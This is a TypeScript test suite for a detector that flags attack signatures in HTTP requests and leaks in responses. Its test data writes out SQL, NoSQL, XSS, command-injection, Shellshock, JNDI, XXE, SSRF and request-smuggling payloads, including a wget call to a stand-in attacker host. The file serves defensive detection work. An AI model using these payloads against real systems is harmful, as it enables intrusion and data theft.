import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { exampleExchange, exampleJson } from '../exchange/exampleExchange.ts';
import { answerEvidence } from './answerEvidence.ts';
import { isSuspect, requestSignatures } from './requestSignatures.ts';

const ATTACK = "x' or 'a'='a";
const IN_BASE64 = Buffer.from('<script>alert(7)</script>').toString('base64');
const body = (mediaType: string, text: string) =>
  exampleExchange({ method: 'POST', requestBody: { mediaType, text, size: text.length } });
const foundIn = (exchange: ReturnType<typeof exampleExchange>) =>
  requestSignatures(exchange).flatMap(({ place: { location, name }, signatures }) =>
    signatures.map(({ family }) => `${location} ${name} ${family}`),
  );

describe('ENG-04 signatures of a request', () => {
  const places: readonly (readonly [string, ReturnType<typeof exampleExchange>, string])[] = [
    ['path', exampleExchange({ path: '/users/7%27%20or%20%27a%27=%27a' }), 'path  sql'],
    [
      'query',
      exampleExchange({
        query: [
          ['sort', 'name'],
          ['q', ATTACK],
        ],
      }),
      'query q sql',
    ],
    ['header', exampleExchange({ requestHeaders: [['x-tenant', ATTACK]] }), 'header x-tenant sql'],
    [
      'user agent',
      exampleExchange({ requestHeaders: [['user-agent', 'x; cat /etc/passwd']] }),
      'header user-agent command',
    ],
    [
      'cookie',
      exampleExchange({ requestHeaders: [['cookie', `theme=dark; id=${ATTACK}`]] }),
      'cookie id sql',
    ],
    [
      'cookie with a semicolon in its value',
      exampleExchange({ requestHeaders: [['cookie', 'theme=dark; lang=en;ls -la']] }),
      'cookie lang command',
    ],
    [
      'cookie with a semicolon and an equal sign in its value',
      exampleExchange({
        requestHeaders: [['cookie', 'lang=en;wget http://evil.example/?a=b; theme=dark']],
      }),
      'cookie lang command',
    ],
    [
      'credentials',
      exampleExchange({
        requestHeaders: [
          ['authorization', `Basic ${Buffer.from(`admin:${ATTACK}`).toString('base64')}`],
        ],
      }),
      'header authorization sql',
    ],
    [
      'JSON',
      {
        ...exampleExchange({ method: 'POST' }),
        requestBody: exampleJson({ items: [{ note: ATTACK }] }),
      },
      'body items[].note sql',
    ],
    [
      'JSON names',
      {
        ...exampleExchange({ method: 'POST' }),
        requestBody: exampleJson({ password: { $ne: '' } }),
      },
      'body password.$ne noSql',
    ],
    [
      'form',
      body('application/x-www-form-urlencoded', `a=1&b=${encodeURIComponent(ATTACK)}`),
      'body b sql',
    ],
    [
      'multipart',
      body(
        'multipart/form-data; boundary=p',
        `--p\r\nContent-Disposition: form-data; name="b"\r\n\r\n${ATTACK}\r\n--p--\r\n`,
      ),
      'body b sql',
    ],
    [
      'file name',
      body(
        'multipart/form-data; boundary=p',
        '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--p--\r\n',
      ),
      'body filename code',
    ],
    [
      'XML',
      body('application/xml', `<a><b c="${ATTACK.replaceAll("'", '&apos;')}">1</b></a>`),
      'body a.b.@c sql',
    ],
    [
      'XML entities',
      body('application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>'),
      'body  xxe',
    ],
    ['text', body('text/plain', ATTACK), 'body  sql'],
    [
      'operator with a number',
      {
        ...exampleExchange({ method: 'POST' }),
        requestBody: exampleJson({ price: { $gt: 0 }, active: { $ne: false } }),
      },
      'body price.$gt noSql',
    ],
    [
      'skipped header',
      exampleExchange({
        requestHeaders: [['accept-encoding', 'gzip, ${jndi:ldap://elsewhere.example/a}']],
      }),
      'header accept-encoding jndi',
    ],
    [
      'cookie in base64',
      exampleExchange({
        requestHeaders: [['cookie', `theme=dark; cart=${IN_BASE64}`]],
      }),
      'cookie cart xss',
    ],
    [
      'form in base64',
      body('application/x-www-form-urlencoded', `a=1&b=${IN_BASE64}`),
      'body b xss',
    ],
    [
      'form in base64 behind a blank',
      body('application/x-www-form-urlencoded', `a=1&b=+${IN_BASE64}&c=2`),
      'body b xss',
    ],
    [
      'form in base64 before a blank',
      body('application/x-www-form-urlencoded', 'b=PHNjcmlwdDw+&c=2'),
      'body b xss',
    ],
    [
      'form in base64 with a percent sign',
      body('application/x-www-form-urlencoded', `b=P%${IN_BASE64.slice(1)}`),
      'body b xss',
    ],
    [
      'form with a name in base64',
      body('application/x-www-form-urlencoded', `a=1&${IN_BASE64}`),
      'body  xss',
    ],
    [
      'cookie in base64 behind a blank',
      exampleExchange({ requestHeaders: [['cookie', `theme=dark; cart= ${IN_BASE64}`]] }),
      'cookie cart xss',
    ],
    ['XML with percent', body('application/xml', '<%0aimg src=x onerror=alert(7)>'), 'body  xss'],
    [
      'picture that a server runs',
      body(
        'multipart/form-data; boundary=p',
        '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php.png"\r\n\r\nx\r\n--p--\r\n',
      ),
      'body filename code',
    ],
    [
      'operator of an object of the query',
      exampleExchange({ query: [['filter[$orderby]', 'x']] }),
      'query filter[$orderby] noSql',
    ],
    [
      'operator as a name in a body',
      exampleExchange({ requestBody: exampleJson({ $query: {}, $orderby: { a: 1 } }) }),
      'body $orderby noSql',
    ],
    [
      'operator in a name',
      exampleExchange({ query: [['password[$ne]', 'x']] }),
      'query password[$ne] noSql',
    ],
  ];
  for (const [what, exchange, found] of places) {
    test(`are found in its ${what}`, () => {
      assert.ok(foundIn(exchange).includes(found), foundIn(exchange).join(', '));
      assert.ok(isSuspect(requestSignatures(exchange)));
    });
  }

  const batch = (...parts: readonly string[]) =>
    body(
      'multipart/mixed; boundary=batch_1',
      [...parts.map((part) => `--batch_1\r\n${part}`), '--batch_1--\r\n'].join('\r\n'),
    );
  const batched = (request: string) =>
    `Content-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n${request}`;
  const CHANGE =
    'POST Orders HTTP/1.1\r\nContent-Type: application/json\r\nIf-Match: W/"1"\r\n\r\n{"Status":"Open"}\r\n';

  test('ENG-04 leave requests within a batch, and sets of changes among them', () => {
    const set = `--set_1\r\n${batched(CHANGE)}\r\n--set_1--`;
    const exchange = batch(
      batched('GET Orders(1)?$top=2 HTTP/1.1\r\nAccept: application/json\r\n\r\n'),
      `Content-Type: multipart/mixed; boundary=set_1\r\n\r\n${set}\r\n`,
    );
    assert.deepEqual(foundIn(exchange), []);
  });

  const LINES = [
    ['Host', '169.254.169.254'],
    ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0'],
    ['Accept', 'application/json;q=0.9, text/html, */*;q=0.8'],
    ['Authorization', `Basic ${Buffer.from('anna:(a&b);c').toString('base64')}`],
    ['Cookie', 'sid=abc123; theme=dark; cart=[1,2]'],
    ['If-Match', 'W/"\'2026-11-30T10:00:00Z\'"'],
    ['If-None-Match', '"a" || "b"'],
    ['Prefer', 'return=representation, respond-async; wait=10'],
    ['Accept-Language', 'en-GB,en;q=0.5'],
    ['Content-ID', '<1>'],
  ] as const;
  for (const [name, value] of LINES)
    test(`ENG-04 leave the header line ${name} of a request within a batch, as of any request`, () => {
      const request = `GET Orders(1) HTTP/1.1\r\n${name}: ${value}\r\n\r\n`;
      assert.deepEqual(foundIn(batch(batched(request))), []);
    });

  const basic = (pair: string): ReturnType<typeof exampleExchange> =>
    exampleExchange({
      requestHeaders: [['authorization', `Basic ${Buffer.from(pair).toString('base64')}`]],
    });
  for (const pair of ['mqtt:public', 'redis:changeme', 'postgres:admin.1234', 'news:today'])
    test(`ENG-04 leave the name and the password ${pair}, which are no address`, () =>
      assert.deepEqual(foundIn(basic(pair)), []));

  const addresses = [
    'gopher://10.0.0.7:6379/_INFO',
    'mqtt:http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1.nip.io/x:public',
  ];
  for (const pair of addresses)
    test(`ENG-04 find the address in the name and the password ${pair}`, () =>
      assert.deepEqual([...new Set(foundIn(basic(pair)))], ['header authorization ssrf']));

  test('ENG-04 find another attack in a password after the name of a scheme', () =>
    assert.ok(foundIn(basic(`redis:${ATTACK}`)).includes('header authorization sql')));

  const second = 'x\r\nGET /admin HTTP/1.1\r\nHost: a.example\r\n\r\n';
  const within: readonly (readonly [string, ReturnType<typeof exampleExchange>])[] = [
    ['a form', body('multipart/form-data; boundary=p', `--p\r\n${batched(second.slice(3))}--p--`)],
    ['a part of a batch that is no request', batch(`Content-Type: text/plain\r\n\r\n${second}`)],
    ['the body of a request of a batch', batch(batched(`POST a HTTP/1.1\r\n\r\n${second}`))],
  ];
  for (const [where, exchange] of within)
    test(`ENG-04 find a second request within ${where}`, () =>
      assert.ok(foundIn(exchange).some((found) => found.includes('crlf'))));

  test('ENG-04 find an attack in target, header and body of a request of a batch', () => {
    for (const request of [
      `GET Orders?a=${encodeURIComponent(ATTACK)} HTTP/1.1\r\n\r\n`,
      `GET Orders HTTP/1.1\r\nX-Filter: ${ATTACK}\r\n\r\n`,
      CHANGE.replace('Open', ATTACK),
      `GET Orders HTTP/1.1\r\nX-Filter: a\r\n ${ATTACK}\r\n\r\n`,
      `GET Orders HTTP/1.1\r\n${ATTACK}: a\r\n\r\n`,
      `GET Orders HTTP/1.1\r\nAuthorization: Basic ${Buffer.from("a' or 1=1").toString('base64')}\r\n\r\n`,
    ])
      assert.ok(isSuspect(requestSignatures(batch(batched(request)))), request);
  });

  test('leave options of OData and SODA, which are whole names of a query', () => {
    const query = ['$orderby', '$limit', '$group', '$query', '$filter', '$select'];
    assert.deepEqual(
      requestSignatures(exampleExchange({ query: query.map((name) => [name, 'Created desc']) })),
      [],
    );
  });

  test('say little of relations in a name and of cookies by an old grammar', () => {
    for (const exchange of [
      exampleExchange({ query: [['owner__team__secret__startswith', 'a']] }),
      exampleExchange({ requestHeaders: [['cookie', '$Version=1; a="b; c=d"']] }),
    ]) {
      assert.equal(requestSignatures(exchange).length, 1);
      assert.equal(isSuspect(requestSignatures(exchange)), false);
    }
  });

  test('leave a path whose last name is one of a script', () =>
    assert.deepEqual(foundIn(exampleExchange({ path: '/manual/document.cookie' })), []));

  test('name a scanner by its agent', () =>
    assert.deepEqual(foundIn(exampleExchange({ requestHeaders: [['user-agent', 'sqlmap/1.7']] })), [
      'header user-agent scanner',
    ]));

  test('are none for what clients send every day', () => {
    const exchange = exampleExchange({
      path: '/v2/orders/10001',
      query: [
        ['page', '2'],
        ['sort', '-price,name'],
        ['updatedSince', '2026-04-10T08:00:00Z'],
        ['q', "women's shoes & bags"],
      ],
      requestHeaders: [
        [
          'user-agent',
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
        ],
        ['accept', 'text/html,*/*;q=0.8'],
        ['sec-ch-ua', '"Chromium";v="131", "Not_A Brand";v="24"'],
        ['referer', 'https://shop.example/search?q=a&b=c#top'],
        ['cookie', '_ga=GA1.2.123.456; theme=dark; consent={"ads":false}; Secure; HttpOnly'],
        ['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2ln'],
        ['if-none-match', 'W/"0815"'],
      ],
      requestBody: exampleJson({
        note: "Don't ring; leave it at the door (left side)",
        html: '<p>Hello</p>',
        amount: 4.5,
      }),
    });
    assert.deepEqual(foundIn(exchange), []);
  });

  test('are found however deep and far behind they hide, under names that stay short', () => {
    for (const depth of [90, 3_000]) {
      const nested = Array.from({ length: depth }, () => 'hidden').reduce<unknown>(
        (inner, name) => ({ [name]: inner }),
        ATTACK,
      );
      const found = requestSignatures({
        ...exampleExchange({ method: 'POST' }),
        requestBody: exampleJson([...Array.from({ length: 9_000 }, () => 'lamp'), nested]),
      });
      assert.ok(isSuspect(found));
      for (const { place } of found) assert.ok(place.name.length <= 201);
    }
  });

  test('weigh by what was learned of the field', () => {
    const exchange = exampleExchange({ query: [['q', ATTACK]] });
    const asFreeText = requestSignatures(exchange, () => ({
      charClasses: ['lower', 'upper', 'space', 'punctuation', 'equals'],
      length99: 200,
    }));
    assert.equal(isSuspect(requestSignatures(exchange)), true);
    assert.equal(isSuspect(asFreeText), false);
  });
});

describe('ENG-04 an answer shows', () => {
  const shown: readonly (readonly [string, string])[] = [
    ['You have an error in your SQL syntax near', 'SQL error'],
    ['Traceback (most recent call last):', 'stack trace'],
    ['java.lang.NullPointerException', 'stack trace'],
    ['<title>Index of /backup</title>', 'directory listing'],
    ['root:x:0:0:root:/root:/bin/sh', 'system file'],
    ['uid=33(www-data) gid=33(www-data)', 'command output'],
    ['<?php echo 1; ?>', 'source code'],
  ];
  for (const [text, evidence] of shown)
    test(evidence, () =>
      assert.ok(
        answerEvidence({ mediaType: 'text/html', text, size: text.length }).some(
          (one) => one === evidence,
        ),
      ),
    );

  test('names of clients are no commands, which come with what runs them', () => {
    const agent = (value: string) =>
      foundIn(exampleExchange({ requestHeaders: [['user-agent', value]] }));
    for (const value of [
      'PowerShell/7.5 Invoke-RestMethod',
      'Wget/1.24 Invoke-WebRequest certutil',
      'libcurl/8.5.0 OpenSSL/3.0.2',
    ])
      assert.deepEqual(agent(value), [], value);
    for (const value of [
      'PowerShell/7.5; powershell -enc aGFsbG8=',
      'x/1 $(invoke-expression whoami)',
      '() { :; }; /bin/cat /etc/passwd',
    ])
      assert.ok(agent(value).includes('header user-agent command'), value);
  });

  test('markup that was sent and came back, and nothing where nothing is', () => {
    const page = { mediaType: 'text/html', text: 'You searched for <b onx=a>', size: 25 };
    assert.deepEqual(answerEvidence(page, ['<b onx=a>']), ['reflected markup']);
    assert.deepEqual(answerEvidence(page, ['lamp']), []);
    assert.deepEqual(answerEvidence(null), []);
  });
});
